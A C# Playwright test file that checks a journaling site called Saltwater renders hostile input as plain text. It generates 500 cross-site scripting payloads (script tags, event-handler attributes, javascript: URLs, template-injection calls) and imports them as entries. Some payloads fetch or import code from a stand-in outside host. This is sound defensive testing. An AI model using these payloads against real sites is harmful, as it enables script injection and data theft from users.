using Microsoft.Playwright;

namespace Saltwater.Site.Tests.Keep;

/// <summary>What somebody wrote who wishes harm, or what a file brought in, is words and nothing else.</summary>
public sealed class HostileWordsTests(RunningSite site, Browser browser)
{
    [Fact]
    public async Task Whatever_is_written_is_shown_as_text()
    {
        string[] acts =
        [
            "globalThis.struck=1",
            "top.struck=1",
            "fetch('//elsewhere.example')",
            "import('//elsewhere.example/a.js')",
            "document.title='struck'",
        ];
        string[] shapes =
        [
            "<script>{0}</script>",
            "<img src=x onerror=\"{0}\">",
            "<svg onload=\"{0}\">",
            "\"><script>{0}</script>",
            "'><img src=x onerror={0}>",
            "<iframe srcdoc=\"<script>{0}</script>\"></iframe>",
            "<a href=\"javascript:{0}\">x</a>",
            "</textarea><script>{0}</script>",
            "</title><script>{0}</script>",
            "<details open ontoggle=\"{0}\">",
            "<input autofocus onfocus=\"{0}\">",
            "<math><mtext><img src=x onerror={0}></mtext></math>",
            "<template><script>{0}</script></template>",
            "<base href=//elsewhere.example>{0}",
            "<meta http-equiv=refresh content=\"0;url=javascript:{0}\">",
            "<link rel=stylesheet href=//elsewhere.example/{0}>",
            "<form action=//elsewhere.example><button>{0}</button></form>",
            "{{{{constructor.constructor('{0}')()}}}}",
            "<style>@import '//elsewhere.example/{0}'</style>",
            "<object data=\"javascript:{0}\">",
            "<embed src=\"javascript:{0}\">",
            "<video><source onerror=\"{0}\"></video>",
            "<body onload=\"{0}\">",
            "<!--><img src=x onerror={0}>-->",
            "<noscript><p title=\"</noscript><img src=x onerror={0}>\">",
        ];
        string[] wraps = ["{0}", "&lt;{0}", "\u202e{0}", "]]>{0}"];
        string[] hostile =
        [
            .. from act in acts
            from shape in shapes
            from wrap in wraps
            select wrap.Replace("{0}", shape.Replace("{0}", act, StringComparison.Ordinal), StringComparison.Ordinal),
        ];
        Assert.Equal(500, hostile.Length);

        await using var visit = await Visit.Begin(browser);
        var keeper = new Keeper(visit, site);
        await keeper.Begin();
        var entries = hostile.Select(
            (text, at) =>
                new
                {
                    id = at.ToString("x32", System.Globalization.CultureInfo.InvariantCulture),
                    day = "2026-03-14",
                    writtenOn = "2026-03-14",
                    tears = true,
                    note = text,
                    facts = new Dictionary<string, string[]>(),
                }
        );
        await keeper.Press("Bring in or take out");
        await keeper.Give(
            "bring-in",
            System.Text.Json.JsonSerializer.SerializeToUtf8Bytes(
                new
                {
                    saltwater = "open data",
                    format = 1,
                    exported = "2026-03-14",
                    entries,
                    cycleDays = Array.Empty<int>(),
                }
            )
        );
        await keeper.Press("Bring it in");
        await keeper.Page.GetByText("Brought in: 500 evenings").WaitForAsync();
        await keeper.Press("Back");
        await keeper.On("Your evenings");
        foreach (var text in hostile.Take(25))
        {
            await keeper.Page.GetByRole(AriaRole.Searchbox).FillAsync(text);
            await keeper.Page.Locator(".door").First.ClickAsync();

            // A search does not mind marks that nobody sees: what it found is one of them, whole, and holds what was sought.
            var written = await keeper.Page.Locator(".written").TextContentAsync();
            Assert.Contains(written, hostile);
            Assert.Contains(Seen(text), Seen(written!), StringComparison.Ordinal);
            await keeper.Press("Back");
        }

        await keeper.Page.GetByRole(AriaRole.Searchbox).FillAsync("");
        while (await keeper.Page.GetByRole(AriaRole.Button, new() { Name = "Show more" }).CountAsync() > 0)
        {
            await keeper.Press("Show more");
        }

        await Assertions.Expect(keeper.Page.Locator(".door")).ToHaveCountAsync(500);
        await keeper.Press("A page to take along");
        await keeper
            .Page.GetByLabel("What I want to ask, one thing a line")
            .FillAsync(string.Join('\n', hostile.Take(shapes.Length * wraps.Length)), new() { Timeout = 120_000 });
        await keeper.Press("All");
        await keeper.Page.GetByText("my own words").ClickAsync();
        await visit.OpenAll();
        Assert.Contains(hostile[0], await keeper.Page.Locator(".sheet").InnerTextAsync(), StringComparison.Ordinal);
        await keeper.Press("Back");
        await keeper.Press("Limits and care");
        await keeper.Press("Write a list");
        await keeper.Press("Go on");
        await keeper.Press("Go on");
        await keeper.On("My list");
        await visit.OpenAll();
        await keeper.Page.GetByLabel("What you call this list, if you like.").FillAsync(hostile[4]);
        await keeper.Page.GetByLabel("In your own words").First.FillAsync(hostile[8]);
        await keeper.Press("Done");
        await Assertions.Expect(keeper.Page.Locator(".sheet").First).ToContainTextAsync("<");

        Assert.Empty(visit.Complaints);
        Assert.Equal("Saltwater", await keeper.Page.TitleAsync());
        Assert.False(await keeper.Page.Ask<bool>("'struck' in globalThis"));
        Assert.All(visit.Requests, address => Assert.StartsWith(site.Address.AbsoluteUri, address, StringComparison.Ordinal));

        static string Seen(string text) => text.Replace("\u202e", "", StringComparison.Ordinal);
    }
}
